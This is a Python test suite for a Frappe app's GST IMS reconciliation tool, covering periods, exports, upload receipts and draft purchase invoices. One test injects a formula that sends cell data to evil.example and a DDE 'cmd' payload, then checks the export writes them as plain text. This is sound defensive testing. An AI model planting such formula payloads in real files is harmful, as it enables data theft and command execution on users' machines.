"""The IMS Tool as an accountant meets it (issue 10) and its exports (issue 11, item 2), in a bench:
one GSTR-3B period, supplier names from the master, the CA's workbook with text as text, the upload
receipt, refusals by document, what GSTN allows for a period, the last view, a draft Purchase Invoice
from a Missing-in-PI record and ranked link candidates."""

from datetime import timedelta
from io import BytesIO

import frappe
from openpyxl import load_workbook

from india_ims.gst_india.documents import Section
from india_ims.gst_india.periods import ReturnPeriod, day_label, section_16_4_deadline
from india_ims.ims import api, benchmark, bulk, clock, reconcile, refusals_api, synclog, tool_api
from india_ims.ims.constants import INWARD_SUPPLY, KIND_UPLOAD, SYNC_LOG, SYNC_LOG_ERROR
from india_ims.ims.download import apply_records
from india_ims.tests import helpers
from india_ims.tests.month_case import MonthCase

USER = "ims.ca.user@example.com"
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


class TestImsToolForTheAccountant(MonthCase):
    MONTH = {"records": 60, "seed": 61}
    CLEAR_EACH = True

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        helpers.user(USER, ["Accounts User"], cls.company)

    def setUp(self):
        super().setUp()
        benchmark.insert_purchases(self.company, self.gstin, self.month.purchases)
        apply_records(self.company, self.gstin, self.month.ims_records)
        reconcile.reconcile(self.company, self.gstin, helpers.PERIOD)
        frappe.db.commit()

    def _names(self, **filters):
        return frappe.get_all(
            INWARD_SUPPLY, filters={"company_gstin": self.gstin, **filters}, pluck="name", order_by="name"
        )

    def _in_period(self):
        """What the GSTR-3B period holds: its GSTR-2B records and the unfiled ones of its filing period."""
        return sorted(
            frappe.db.sql_list(
                f"select name from `tab{INWARD_SUPPLY}` where company_gstin = %(gstin)s and (gstr2b_period = "
                "%(period)s or (ifnull(gstr2b_period, '') = '' and supplier_return_period = %(period)s))",
                {"gstin": self.gstin, "period": helpers.PERIOD},
            )
        )

    def _unfile(self, names):
        # Saved by the supplier, not filed: no GSTR-2B period yet (spec 3.5).
        frappe.db.sql(
            f"update `tab{INWARD_SUPPLY}` set supplier_filing_status = 'Not Filed', gstr2b_period = '' "
            "where name in %(names)s",
            {"names": names},
        )
        frappe.db.commit()

    def _workbook(self, **filters):
        tool_api.export_documents(self.gstin, helpers.PERIOD, frappe.as_json(filters), "gstr2b_period")
        return load_workbook(BytesIO(frappe.response["filecontent"]))

    def test_one_period_holds_the_records_the_supplier_saved_but_has_not_filed(self):
        unfiled = self._names(supplier_return_period=helpers.PERIOD, gstr2b_period=helpers.PERIOD)[:3]
        already = len(self._names(supplier_return_period=helpers.PERIOD, gstr2b_period=""))
        before = self._in_period()
        self._unfile(unfiled)
        self.assertEqual(self._in_period(), before)  # still in the period, under their filing period
        total = len(before)
        args = {"period": helpers.PERIOD, "period_field": "gstr2b_period"}
        shown = api.get_documents(self.gstin, page_length=500, **args)
        self.assertEqual(sorted(row["name"] for row in shown["rows"]), before)
        summary = api.get_action_summary(self.gstin, **args)
        self.assertEqual(sum(row["count"] for row in summary["not_filed"]), already + 3)
        self.assertEqual(sum(row["count"] for row in summary["by_action"]), total - already - 3)
        # the tabs agree: Match Summary counts the same records
        match = api.get_match_summary(self.gstin, **args)
        self.assertEqual(sum(row["count"] for row in match["by_status"]), total)
        # the supplier's filing period is a filter inside the GSTR-3B period
        narrowed = api.get_documents(
            self.gstin, filters={"supplier_filing_status": "Not Filed"}, page_length=500, **args
        )
        self.assertTrue(set(unfiled) <= {row["name"] for row in narrowed["rows"]})
        self.assertEqual(narrowed["total"], already + 3)
        periods = {row.period: row["count"] for row in tool_api.get_recent_jobs(self.gstin)["periods"]}
        self.assertEqual(periods[helpers.PERIOD], total)

    def test_supplier_names_come_from_the_supplier_master(self):
        row = frappe.db.get_value(INWARD_SUPPLY, self._names()[0], ["supplier_gstin", "name"], as_dict=True)
        for field in ("tax_id", "gstin"):
            if frappe.get_meta("Supplier").has_field(field) or field == "tax_id":
                for other in frappe.get_all("Supplier", filters={field: row.supplier_gstin}, pluck="name"):
                    frappe.delete_doc("Supplier", other, force=True)
        supplier = frappe.get_doc(
            {"doctype": "Supplier", "supplier_name": "Master Name Traders", "tax_id": row.supplier_gstin}
        ).insert(ignore_permissions=True)
        self.addCleanup(frappe.delete_doc, "Supplier", supplier.name, force=True)
        rows = api.get_documents(
            self.gstin, filters={"supplier_gstin": row.supplier_gstin}, page_length=500, period=helpers.PERIOD
        )["rows"]
        self.assertTrue(rows)
        self.assertEqual({r["supplier_name"] for r in rows}, {"Master Name Traders"})
        detail = tool_api.get_record_detail(row.name)
        self.assertEqual(detail["supplier_name"], "Master Name Traders")

    def test_export_writes_hostile_text_as_text_with_summary_totals_and_missing_in_ims(self):
        name = self._in_period()[0]
        frappe.db.set_value(
            INWARD_SUPPLY, name, {"document_number": HOSTILE, "supplier_name": "+cmd|' /C calc'!A0"}
        )
        frappe.db.commit()
        book = self._workbook()
        self.assertEqual(book.sheetnames[:2], ["Summary", "Documents"])
        self.assertIn("Missing in IMS", book.sheetnames)
        sheet = book["Documents"]
        header = [c.value for c in sheet[1]]
        for title in ("Supplier", "IMS Taxable", "Books Taxable", "Difference Taxable", "Remarks"):
            self.assertIn(title, header)
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == HOSTILE]
        self.assertEqual(len(cells), 1)
        self.assertEqual(cells[0].data_type, "s")
        formulas = [c.value for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "f"]
        # the only formulas are the totals this app wrote
        self.assertTrue(formulas)
        self.assertTrue(all(f.startswith("=SUBTOTAL(9,") for f in formulas), formulas)
        taxable = header.index("IMS Taxable") + 1
        self.assertEqual(sheet.cell(row=2, column=taxable).number_format, "#,##0.00")
        summary = [[c.value for c in row] for row in book["Summary"].iter_rows()]
        self.assertIn(
            ["Match status", "Documents", "Taxable", "IGST", "CGST", "SGST", "Cess", "Total Tax"], summary
        )
        total_rows = [row for row in summary if row and row[0] == "Total"]
        self.assertEqual(total_rows[0][1], len(self._in_period()))

    def test_upload_receipt_names_saved_refused_documents_and_gstn_references(self):
        log = helpers.new_log(KIND_UPLOAD, self.gstin, self.company, None)
        name = self._names()[0]
        number = frappe.db.get_value(INWARD_SUPPLY, name, "document_number")
        bulk.insert_children(
            SYNC_LOG_ERROR,
            SYNC_LOG,
            log,
            "record_errors",
            [
                {
                    "section": "b2b",
                    "inward_supply": name,
                    "error_code": "IMS_PREV_STATUS",
                    "message": "the supplier changed the record",
                }
            ],
            ("section", "inward_supply", "error_code", "message"),
        )
        synclog.add_references(
            log,
            [
                {
                    "kind": "request",
                    "section": "b2b",
                    "reference_id": "REF123",
                    "state": "done",
                    "items": [[name, "Accepted"], ["x", "Rejected"]],
                }
            ],
        )
        counts = {"records_processed": 1, "records_failed": 1, "status": "Partly Failed"}
        frappe.db.set_value(SYNC_LOG, log, counts, update_modified=False)
        frappe.db.commit()
        receipt = tool_api.get_upload_receipt(log)
        self.assertEqual((receipt["saved"], receipt["refused_count"]), (1, 1))
        self.assertEqual(receipt["refused"][0]["document_number"], number)
        self.assertEqual(receipt["refused"][0]["reason"], "the supplier changed the record")
        self.assertEqual(
            receipt["references"],
            [{"reference_id": "REF123", "section": "B2B Invoice", "records": 2, "state": "processed"}],
        )
        tool_api.export_upload_receipt(log)
        book = load_workbook(BytesIO(frappe.response["filecontent"]))
        refused = [[c.value for c in row] for row in book["Refused"].iter_rows()]
        self.assertEqual(refused[1][0], number)

    def test_refusals_are_described_by_document(self):
        name = self._names()[0]
        record = frappe.db.get_value(INWARD_SUPPLY, name, ["document_number", "section"], as_dict=True)
        rows = refusals_api.describe_refusals(
            frappe.as_json([{"name": name, "code": "SECTION_16_4_EXPIRED", "message": "time-barred"}])
        )
        self.assertEqual(rows[0]["document_number"], record.document_number)
        self.assertEqual(rows[0]["message"], "time-barred")
        self.assertEqual(rows[0]["section"], Section(record.section).label)

    def test_regenerate_is_offered_after_the_14th_before_the_3b_and_16_4_is_flagged(self):
        period = ReturnPeriod.parse(helpers.PERIOD)
        generation = period.gstr2b_generation_date()
        with clock.pinned(generation - timedelta(days=4)):
            before = tool_api.get_period_info(self.gstin, helpers.PERIOD)
        self.assertFalse(before["regenerate_allowed"])
        self.assertIn(day_label(generation), before["regenerate_reason"])
        self.assertFalse(before["section_16_4_past"])
        # documents of the period could be claimed until 30 November after their financial year
        deadline = section_16_4_deadline(period.last_day)
        with clock.pinned(deadline):
            on_the_day = tool_api.get_period_info(self.gstin, helpers.PERIOD)
        with clock.pinned(deadline + timedelta(days=1)):
            late = tool_api.get_period_info(self.gstin, helpers.PERIOD)
        self.assertFalse(on_the_day["section_16_4_past"])
        self.assertTrue(late["section_16_4_past"])
        self.assertEqual(str(late["section_16_4_deadline"]), str(deadline))

    def test_the_tool_opens_on_the_last_gstin_and_period(self):
        frappe.set_user(USER)
        tool_api.remember_view(self.gstin, "092025")
        self.assertEqual(tool_api.get_tool_setup()["last"], {"company_gstin": self.gstin, "period": "092025"})

    def test_link_candidates_rank_the_booked_bill_first(self):
        linked = frappe.get_all(
            INWARD_SUPPLY,
            filters={"company_gstin": self.gstin, "match_status": "Exact Match"},
            fields=["name", "purchase_invoice"],
            limit=1,
        )[0]
        api.unlink_purchase_invoice(linked.name)
        candidates = api.get_link_candidates(linked.name)
        self.assertEqual(candidates[0]["purchase_invoice"], linked.purchase_invoice)
        self.assertGreaterEqual(candidates[0]["score"], 85)
        self.assertEqual(candidates, sorted(candidates, key=lambda c: -c["score"]))

    def test_a_missing_in_pi_record_becomes_a_draft_with_supplier_amounts_and_taxes(self):
        name = frappe.get_all(
            INWARD_SUPPLY,
            filters={"company_gstin": self.gstin, "match_status": "Missing in PI", "section": "b2b"},
            pluck="name",
            limit=1,
        )[0]
        record = frappe.db.get_value(INWARD_SUPPLY, name, "*", as_dict=True)
        for supplier in frappe.get_all("Supplier", filters={"tax_id": record.supplier_gstin}, pluck="name"):
            frappe.delete_doc("Supplier", supplier, force=True)
        self.assertEqual(api.create_draft_purchase_invoice(name)["needs_supplier"], True)
        if not frappe.db.exists("Purchase Taxes and Charges Template", {"company": self.company}):
            self._templates()
        result = api.create_draft_purchase_invoice(name, create_supplier=True)
        if "unsaved" in result:
            # India Compliance wants the company's address with its GSTIN before a save: the filled
            # document comes back for the user to complete, with the reason
            self.assertIn("india_compliance", frappe.get_installed_apps())
            self.assertTrue(result["reason"])
            unsaved = result["unsaved"]
            self.addCleanup(frappe.delete_doc, "Supplier", unsaved["supplier"], force=True)
            self.assertEqual(unsaved["bill_no"], record.document_number)
            tax = float(record.igst + record.cgst + record.sgst + record.cess)
            self.assertAlmostEqual(sum(t["tax_amount"] for t in unsaved["taxes"]), tax, places=2)
            return
        doc = frappe.get_doc("Purchase Invoice", result["name"])
        self.addCleanup(frappe.delete_doc, "Supplier", doc.supplier, force=True)
        self.addCleanup(frappe.delete_doc, "Purchase Invoice", doc.name, force=True)
        self.assertEqual(doc.docstatus, 0)
        self.assertEqual(doc.bill_no, record.document_number)
        self.assertEqual(str(doc.bill_date), str(record.document_date))
        self.assertEqual(frappe.db.get_value("Supplier", doc.supplier, "tax_id"), record.supplier_gstin)
        self.assertAlmostEqual(doc.net_total, float(record.taxable_value), places=2)
        tax = float(record.igst + record.cgst + record.sgst + record.cess)
        self.assertAlmostEqual(doc.total_taxes_and_charges, tax, places=2)
        self.assertTrue(doc.taxes_and_charges)

    def _templates(self):
        accounts = benchmark.mapped_tax_accounts(self.company)
        for title, heads in (("IMS IGST", ("igst", "cess")), ("IMS CGST SGST", ("cgst", "sgst", "cess"))):
            frappe.get_doc(
                {
                    "doctype": "Purchase Taxes and Charges Template",
                    "title": title,
                    "company": self.company,
                    "taxes": [
                        {
                            "charge_type": "On Net Total",
                            "account_head": accounts[head],
                            "rate": 9,
                            "description": head.upper(),
                        }
                        for head in heads
                    ],
                }
            ).insert(ignore_permissions=True)
        frappe.db.commit()
